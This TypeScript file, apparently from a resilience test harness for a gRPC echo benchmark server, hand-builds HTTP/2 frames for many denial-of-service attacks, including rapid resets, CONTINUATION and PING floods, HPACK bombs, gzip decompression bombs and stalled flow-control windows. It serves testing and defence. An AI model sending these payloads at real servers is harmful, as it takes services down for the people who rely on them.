/**
 * What attackers are known to send to HTTP/2 and gRPC servers, as the bytes of one connection. Frames are made by hand (RFC 9113),
 * header blocks without any table: no rule is kept here that the attack does not need.
 */
import { gzipSync } from "node:zlib";
import { attack as makeAttack, uint32, type Attack } from "./attack.ts";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");

/** Pieces of an attack on one connection: more than any limit allows. */
const MANY = 3000;
const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION] = [0, 1, 2, 3, 4, 6, 8, 9] as const;
const [NO_FLAG, END_STREAM, END_HEADERS] = [0, 1, 4] as const;
const INITIAL_WINDOW_SIZE = 4;
const MAX_WINDOW = 0x7fff_ffff;
const NOTHING = Buffer.alloc(0);

/** The first frame must be SETTINGS. */
const OPENING = frame(SETTINGS, NO_FLAG, 0, NOTHING);

export const HTTP2_ATTACKS: Readonly<Record<string, () => Attack>> = {
  "rapid resets": () => flood((id) => [call(id), frame(RST_STREAM, NO_FLAG, id, uint32(8))]),
  "resets made ours": () => flood((id) => [call(id), frame(WINDOW_UPDATE, NO_FLAG, id, uint32(0))]),
  CONTINUATION: () => flood((id) => [id === 1 ? frame(HEADERS, NO_FLAG, id, NOTHING) : frame(CONTINUATION, NO_FLAG, 1, NOTHING)]),
  SETTINGS: () => flood(() => [OPENING]),
  PINGs: () => flood(() => [frame(PING, NO_FLAG, 0, Buffer.alloc(8))]),
  "empty data": () => flood((id) => [id === 1 ? call(id) : frame(DATA, NO_FLAG, 1, NOTHING)]),
  "window updates": () => flood(() => [frame(WINDOW_UPDATE, NO_FLAG, 0, uint32(1))]),
  priorities: () => flood((id) => [frame(PRIORITY, NO_FLAG, id, Buffer.concat([uint32(0), Buffer.of(1)]))]),
  "HPACK bombs": () =>
    flood((id) => [id === 1 ? call(id, END_STREAM, tableEntry(4000)) : call(id, END_STREAM, Buffer.alloc(16_000, 0xbe))]),
  "large headers": () => flood((id) => [call(id, END_STREAM, block([["x", "y".repeat(16_100)]]))]),
  "windows of nothing": () =>
    attack([settings(INITIAL_WINDOW_SIZE, 0), ...ids(900, (id) => [call(id, NO_FLAG, NOTHING, "Repeat"), message(id, REQUEST)])], {
      leaves: "never",
    }),
  "sockets nobody reads": () =>
    attack([settings(INITIAL_WINDOW_SIZE, MAX_WINDOW), ...ids(900, (id) => [call(id, NO_FLAG, NOTHING, "Repeat"), message(id, REQUEST)])], {
      reads: false,
      leaves: "never",
    }),
  "endless streams": () =>
    attack(
      [
        settings(INITIAL_WINDOW_SIZE, MAX_WINDOW),
        frame(WINDOW_UPDATE, NO_FLAG, 0, uint32(0x7000_0000)),
        call(1, NO_FLAG, NOTHING, "Repeat"),
        message(1, NOTHING),
      ],
      { leaves: "never" },
    ),
  "windows that overflow": () => flood((id) => [call(id), frame(WINDOW_UPDATE, NO_FLAG, id, uint32(MAX_WINDOW))]),
  "messages over the limit": () => flood((id) => [call(id), frame(DATA, END_STREAM, id, prefix(0, MAX_WINDOW))]),
  "compressed bombs": () => {
    const bomb = gzipSync(Buffer.alloc(1 << 28));
    const head = block([["grpc-encoding", "gzip"]]);
    return attack([OPENING, ...ids(4, (id) => [call(id, NO_FLAG, head), ...split(id, Buffer.concat([prefix(1, bomb.byteLength), bomb]))])]);
  },
  "bombs within the limit": () => bombs(16_000_000, 100),
  "bombs on 8 connections": () => bombs(16_000_000, 100, 8),
  "many small bombs": () => bombs(250_000, 5000),
  "other content types": () => flood((id) => [frame(HEADERS, END_HEADERS | END_STREAM, id, requestBlock("Echo", "text/html"))]),
  "wrong length prefixes": () => flood((id) => [call(id), frame(DATA, END_STREAM, id, prefix(9, 9))]),
  garbage: () => attack([Buffer.alloc(1 << 20, 0x55)]),
  dials: () => makeAttack([], { leaves: "at once", dials: 50 }),
  "dials that say hello": () => attack([OPENING], { leaves: "at once", dials: 50 }),
  "slow prefaces": () => attack([settings(INITIAL_WINDOW_SIZE, 1).subarray(0, 5)], { leaves: "never" }),
};

/** Begins with the preface. */
function attack(pieces: readonly Buffer[], manners?: Parameters<typeof makeAttack>[1]): Attack {
  return makeAttack([PREFACE, ...pieces], manners);
}

function flood(piece: (id: number) => readonly Buffer[]): Attack {
  return attack([OPENING, ...ids(MANY, piece)]);
}

function ids(count: number, piece: (id: number) => readonly Buffer[]): Buffer[] {
  return Array.from({ length: count }, (_, at) => piece(2 * at + 1)).flat();
}

function frame(type: number, flags: number, id: number, payload: Uint8Array): Buffer {
  const bytes = Buffer.alloc(9 + payload.byteLength);
  bytes.writeUIntBE(payload.byteLength, 0, 3);
  bytes[3] = type;
  bytes[4] = flags;
  bytes.writeUInt32BE(id, 5);
  bytes.set(payload, 9);
  return bytes;
}

function settings(setting: number, value: number): Buffer {
  return frame(SETTINGS, NO_FLAG, 0, Buffer.concat([Buffer.of(0, setting), uint32(value)]));
}

/** A request of the echo service, with more fields if there are any. */
function call(id: number, flags: number = NO_FLAG, more: Buffer = NOTHING, method = "Echo"): Buffer {
  return frame(HEADERS, END_HEADERS | flags, id, Buffer.concat([requestBlock(method, "application/grpc"), more]));
}

function requestBlock(method: string, contentType: string): Buffer {
  return block([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", `/bench.Echo/${method}`],
    ["content-type", contentType],
    ["te", "trailers"],
  ]);
}

/** Messages that are a thousandth of their size when they come, and may be as large; what they are answered with is small. */
function bombs(size: number, count: number, dials = 1): Attack {
  const bomb = gzipSync(Buffer.concat([Buffer.of(0x12), varint(size), Buffer.alloc(size)]));
  const pieces = Array.from({ length: count }, () => split(1, Buffer.concat([prefix(1, bomb.byteLength), bomb]), NO_FLAG)).flat();
  return attack([OPENING, call(1, NO_FLAG, block([["grpc-encoding", "gzip"]]), "Count"), ...pieces], { leaves: "never", dials });
}

/** `Req` with a `msg` of 1000 letters. */
const REQUEST = Buffer.concat([Buffer.of(0x12, 0xe8, 0x07), Buffer.alloc(1000, 0x78)]);

function message(id: number, body: Buffer): Buffer {
  return frame(DATA, END_STREAM, id, Buffer.concat([prefix(0, body.byteLength), body]));
}

/** Data in frames that everybody takes. */
function split(id: number, bytes: Buffer, flagsOfLast: number = END_STREAM): Buffer[] {
  const size = 16_000;
  return Array.from({ length: Math.ceil(bytes.byteLength / size) }, (_, at) => {
    const from = at * size;
    return frame(DATA, from + size >= bytes.byteLength ? flagsOfLast : NO_FLAG, id, bytes.subarray(from, from + size));
  });
}

function prefix(flag: number, length: number): Buffer {
  return Buffer.concat([Buffer.of(flag), uint32(length)]);
}

function block(fields: readonly (readonly [name: string, value: string])[]): Buffer {
  return Buffer.concat(fields.flatMap(([name, value]) => [Buffer.of(0), text(name), text(value)]));
}

/** A field that the table keeps. */
function tableEntry(size: number): Buffer {
  return Buffer.concat([Buffer.of(0x40), text("x"), text("y".repeat(size))]);
}

/** A string with its length (RFC 7541, section 5). */
function text(value: string): Buffer {
  const bytes = Buffer.from(value, "latin1");
  const length: number[] = [Math.min(bytes.byteLength, 127)];
  if (bytes.byteLength >= 127) {
    let rest = bytes.byteLength - 127;
    for (; rest > 127; rest >>>= 7) length.push((rest & 127) | 128);
    length.push(rest);
  }
  return Buffer.concat([Buffer.from(length), bytes]);
}

/** A length in a message of Protobuf. */
function varint(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value;
  for (; rest > 127; rest >>>= 7) bytes.push((rest & 127) | 128);
  return Buffer.from([...bytes, rest]);
}
